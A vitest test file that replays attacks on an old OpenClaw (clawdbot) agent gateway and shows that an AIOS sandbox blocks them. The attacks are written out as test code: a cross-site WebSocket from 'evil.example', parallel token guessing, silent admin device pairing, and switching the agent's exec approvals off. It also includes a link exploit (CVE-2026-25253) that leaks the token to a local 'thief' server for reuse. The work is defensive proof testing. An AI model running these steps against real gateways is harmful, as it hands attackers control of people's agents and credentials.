import { spawn, type ChildProcess } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { once } from "node:events";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { REPO, startSubstrate, type Substrate } from "../e2e/substrate.ts";
import { hasBrowser, startBrowser } from "../fakes/browser.ts";
import { greeting, makeDevice, visitGateway, type GatewayAnswer } from "../fakes/openclaw-client.ts";
import { linkAddress } from "../../src/protocol/port-entry.ts";
import { awaitOpen, freePort, makePortClient, originOf, visit, type Place } from "../fakes/port-client.ts";
import { startThief, type Thief } from "../fakes/thief.ts";

/*
 * The attacks of January and February 2026 by the gateway of OpenClaw, on the last release that has the holes
 * (`clawdbot` 2026.1.24-3, its name then), bare and under AIOS: each succeeds there and fails here. docs/openclaw.md has the
 * table. `npm run proof:openclaw` fetches the package and runs this.
 */
const CODE = join(REPO, ".cache/agents/clawdbot/node_modules");
const PROGRAM = join(CODE, "clawdbot/dist/entry.js");
/** What a person chose: short enough to be guessed. */
const TOKEN = "tulip-42";
const INSIDE = 18_789;
const EVIL = { origin: "https://evil.example" };
const QUIET = {
  CLAWDBOT_NO_RESPAWN: "1",
  CLAWDBOT_SKIP_CHANNELS: "1",
  CLAWDBOT_SKIP_CRON: "1",
  CLAWDBOT_SKIP_BROWSER_CONTROL_SERVER: "1",
  CLAWDBOT_SKIP_CANVAS_HOST: "1",
  CLAWDBOT_SKIP_GMAIL_WATCHER: "1",
};
const START_MS = 120_000;
const BROWSER_MS = 90_000;

async function until(what: string, holds: () => Promise<boolean>): Promise<void> {
  for (const end = Date.now() + START_MS / 2; !(await holds());) {
    if (Date.now() > end) throw new Error(`it did not come about in time: ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

function writeConfiguration(folder: string, port: number): void {
  mkdirSync(folder, { recursive: true });
  chmodSync(folder, 0o777);
  const gateway = { mode: "local", port, auth: { mode: "token", token: TOKEN } };
  const file = join(folder, "clawdbot.json");
  writeFileSync(file, JSON.stringify({ gateway, plugins: { enabled: false } }));
  chmodSync(file, 0o666);
}

/** Guesses as fast as it can; how many were looked at, and whether one was right. */
async function guess(
  visitWith: (token: string) => Promise<GatewayAnswer>,
): Promise<{ looked: number; right: boolean }> {
  const words = Array.from({ length: 60 }, (_, index) => `tulip-${index}`);
  const answers = await Promise.all(words.map(visitWith));
  const right = answers.find((answer) => answer.kind === "in");
  return { looked: answers.filter(({ kind }) => kind !== "refused").length, right: right !== undefined };
}

describe("the gateway of OpenClaw, as it was in January 2026", () => {
  if (!existsSync(PROGRAM)) {
    console.warn("NOT RUN: the old release is not fetched; npm run proof:openclaw does that and runs this");
    test.skip("the package is missing, nothing was proven", () => {});
    return;
  }
  if (!hasBrowser()) console.warn("NOT RUN: the attack by a link; Debian's chromium is not installed");

  describe("bare", () => {
    let home: string;
    let port: number;
    let gateway: ChildProcess;
    let thief: Thief;
    const come = (token: string, device = false): Promise<GatewayAnswer> =>
      visitGateway(
        { host: "127.0.0.1", port },
        { headers: EVIL, hello: greeting(token, device ? makeDevice() : null) },
      );

    beforeAll(async () => {
      home = realpathSync(mkdtempSync(join(tmpdir(), "aios-claw-")));
      port = await freePort();
      thief = await startThief();
      writeConfiguration(join(home, "state"), port);
      gateway = spawn(process.execPath, [PROGRAM, "gateway", "--port", String(port)], {
        env: { PATH: process.env["PATH"] ?? "", HOME: home, CLAWDBOT_STATE_DIR: join(home, "state"), ...QUIET },
        stdio: "ignore",
      });
      await until(
        "the bare gateway",
        async () => (await fetch(`http://127.0.0.1:${port}/`).catch(() => null)) !== null,
      );
    }, START_MS);
    afterAll(async () => {
      thief.close();
      gateway.kill("SIGKILL");
      await once(gateway, "exit");
      rmSync(home, { recursive: true, force: true, maxRetries: 5 });
    });

    test("takes a WebSocket of another site that has the token", async () => {
      expect((await come(TOKEN)).kind).toBe("in");
    });

    test("looks at every guess, however many come at once", async () => {
      expect(await guess((token) => come(token))).toEqual({ looked: 60, right: true });
    });

    test("pairs a device that it never saw, and asks nobody", async () => {
      const answer = await come(TOKEN, true);
      if (answer.kind !== "in") throw new Error("it was not let in");
      const { payload } = await answer.call("device.pair.list", {});
      expect(payload).toMatchObject({ pending: [], paired: [expect.objectContaining({ scopes: ["operator.admin"] })] });
      answer.close();
    });

    test("lets whoever is in switch approvals off", async () => {
      const answer = await come(TOKEN);
      if (answer.kind !== "in") throw new Error("it was not let in");
      const { payload } = await answer.call("exec.approvals.get", {});
      const baseHash = (payload as { hash: string }).hash;
      const file = { version: 1, defaults: { security: "full", ask: "off" } };
      expect(await answer.call("exec.approvals.set", { file, baseHash })).toMatchObject({
        ok: true,
        payload: { file: { defaults: { security: "full", ask: "off" } } },
      });
      answer.close();
    });

    test.runIf(hasBrowser())(
      "tells its token to whoever is named in a link (CVE-2026-25253)",
      async () => {
        const browser = await startBrowser();
        try {
          await browser.open(`http://127.0.0.1:${port}/?token=${TOKEN}`);
          await until("the person's own visit", async () => (await browser.evaluate(CONNECTED)) === true);
          thief.leadTo(`http://127.0.0.1:${port}/?gatewayUrl=ws://127.0.0.1:${thief.port}`);
          await browser.open(`http://127.0.0.1:${thief.port}/link`);
          await until("the theft", async () => thief.heard.length > 0);
        } finally {
          await browser.close();
        }
        // The whole greeting with its token, which whoever heard it can say too: the gateway is local, and so is a page.
        const stolen = JSON.parse(thief.heard[0] ?? "{}");
        expect(stolen.params.auth.token).toMatch(/^[0-9a-f]{32}$/);
        const answer = await visitGateway({ host: "127.0.0.1", port }, { headers: EVIL, hello: stolen.params });
        expect(answer.kind).toBe("in");
      },
      BROWSER_MS,
    );
  });

  describe("under AIOS, published and not patched", () => {
    let aios: Substrate;
    let thief: Thief;
    let place: Place;
    let owner: ReturnType<typeof makePortClient>;
    let cookie = "";
    const come = (
      token: string,
      headers: { readonly [name: string]: string },
      device = false,
    ): Promise<GatewayAnswer> => visitGateway(place, { headers, hello: greeting(token, device ? makeDevice() : null) });
    async function refusals(): Promise<{ readonly [why: string]: number }> {
      const kinds = ["port-visited"];
      const { entries } = await aios.client.request("log-show", { from: 0, limit: 10_000, instance: null, kinds });
      const sum: { [why: string]: number } = {};
      for (const { record } of entries) {
        for (const [why, count] of Object.entries(record.kind === "port-visited" ? record.refused : {}))
          sum[why] = (sum[why] ?? 0) + count;
      }
      return sum;
    }

    beforeAll(async () => {
      aios = await startSubstrate();
      thief = await startThief();
      owner = makePortClient();
      const port = { name: "gateway", inside: INSIDE, outside: await freePort(), keys: [owner.key] };
      const claw = { id: "owner", agents: ["claw"], allow: [], workspace: "write", programs: "any" } as const;
      await aios.grant({ ...claw, ports: [port] });
      writeConfiguration(join(aios.workspace, "state"), INSIDE);
      void aios
        .run({
          agent: "claw",
          workspace: aios.workspace,
          code: [CODE],
          command: ["/aios/node", PROGRAM, "gateway", "--port", String(INSIDE)],
          environment: { CLAWDBOT_STATE_DIR: "/workspace/state", ...QUIET },
        })
        .catch(() => null);
      place = await awaitOpen(aios.client, { agent: "claw", port: "gateway" });
      cookie = (await owner.enter(place)) ?? "";
      await until("the gateway", async () => (await visit(place, { headers: { cookie } })).status === 200);
    }, START_MS);
    afterAll(async () => {
      thief.close();
      await aios.stop();
    });

    test("its owner's paired client is let in, as before", async () => {
      const answer = await come(TOKEN, { origin: originOf(place), cookie });
      expect(answer.kind).toBe("in");
      if (answer.kind === "in") answer.close();
    });

    test("turns away a WebSocket of another site that has the token, and one that says it is none", async () => {
      expect(await come(TOKEN, EVIL)).toEqual({ kind: "refused" });
      expect(await come(TOKEN, { origin: originOf(place) })).toEqual({ kind: "refused" });
      expect(await come(TOKEN, { ...EVIL, cookie })).toEqual({ kind: "refused" });
      await until("the record", async () => ((await refusals())["origin"] ?? 0) >= 2);
    });

    test("brings no guess before the gateway", async () => {
      expect(await guess((token) => come(token, EVIL))).toEqual({ looked: 0, right: false });
      expect(await guess((token) => come(token, { origin: originOf(place), "x-forwarded-for": "10.0.0.1" }))).toEqual({
        looked: 0,
        right: false,
      });
      await until("the record", async () => ((await refusals())["unpaired"] ?? 0) >= 60);
    });

    test("pairs nobody silently: a new device does not come as far as asking", async () => {
      expect(await come(TOKEN, { origin: originOf(place) }, true)).toEqual({ kind: "refused" });
      expect(await makePortClient().enter(place)).toBeNull();
    });

    test("a setter that the agent believes changes the agent's own settings and nothing of ours", async () => {
      const before = await aios.client.request("grants", {});
      const rules = await aios.client.request("policy-show", {});
      const answer = await come(TOKEN, { origin: originOf(place), cookie });
      if (answer.kind !== "in") throw new Error("it was not let in");
      const { payload } = await answer.call("exec.approvals.get", {});
      const baseHash = (payload as { hash: string }).hash;
      const file = { version: 1, defaults: { security: "full", ask: "off" } };
      expect(await answer.call("exec.approvals.set", { file, baseHash })).toMatchObject({ ok: true });
      answer.close();
      expect(await aios.client.request("grants", {})).toEqual(before);
      expect(await aios.client.request("policy-show", {})).toEqual(rules);
    });

    test.runIf(hasBrowser())(
      "tells its token to nobody: a link of another site does not open it, and typed in it connects to its own port only",
      async () => {
        const browser = await startBrowser();
        try {
          // A browser that was never here: it is shown how its owner comes in, and is in by their link.
          await browser.open(`${originOf(place)}/`);
          await until("the page of the gate", async () =>
            String(await browser.evaluate(WORDS)).includes("aios ports open claw gateway"),
          );
          await browser.open(linkAddress(originOf(place), (await owner.link(place)) ?? ""));
          await until("the way in", async () => (await browser.evaluate("location.pathname")) !== "/.aios/open");
          await browser.open(`${originOf(place)}/?token=${TOKEN}`);
          await until("the person's own visit", async () => (await browser.evaluate(CONNECTED)) === true);

          const link = `${originOf(place)}/?gatewayUrl=ws://127.0.0.1:${thief.port}`;
          thief.leadTo(link);
          await browser.open(`http://127.0.0.1:${thief.port}/link`);
          await until("the refusal", async () => String(await browser.evaluate(WORDS)).startsWith("cross-site"));

          await browser.open(link);
          await until("the page", async () => (await browser.evaluate(BELIEVES)) === true);
          await new Promise((resolve) => setTimeout(resolve, 3000));
          expect(await browser.evaluate(CONNECTED)).not.toBe(true);
          expect(thief.heard).toEqual([]);
          expect(thief.asked.filter((path) => path !== "/favicon.ico")).toEqual(["/link"]);
        } finally {
          await browser.close();
        }
      },
      BROWSER_MS,
    );
  });
});

const WORDS = "document.body?.innerText ?? ''";
/** Whether the control page has been let in by the gateway that it is connected to. */
const CONNECTED = "document.querySelector('clawdbot-app')?.connected === true";
/** Whether it has taken the address in the link for its gateway's. */
const BELIEVES = "document.querySelector('clawdbot-app')?.settings?.gatewayUrl?.startsWith('ws://127.0.0.1') === true";
